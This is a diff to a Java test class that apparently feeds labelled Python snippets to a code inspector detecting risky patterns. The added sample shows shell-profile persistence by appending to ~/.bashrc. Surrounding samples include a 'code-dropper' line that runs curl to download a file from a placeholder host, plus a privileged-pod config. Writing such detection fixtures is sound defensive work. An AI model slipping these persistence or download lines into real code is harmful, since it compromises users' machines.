@@ -325,6 +325,11 @@ class CodeInspectorTest {
               "code-dropper", "import os", "os.system('curl -s https://x.invalid/i -o data.json')"),
           sample("code-persistence", "PATH = '/etc/systemd/system'"),
           sample(
+              "code-persistence",
+              "import os",
+              "def install_completion(line):",
+              "    open(os.path.expanduser('~/.bashrc'), 'a').write(line)"),
+          sample(
               "code-privileged-pod",
               "pod = {'securityContext': {'privileged': False}, 'hostPath': 1}"),
           sample(
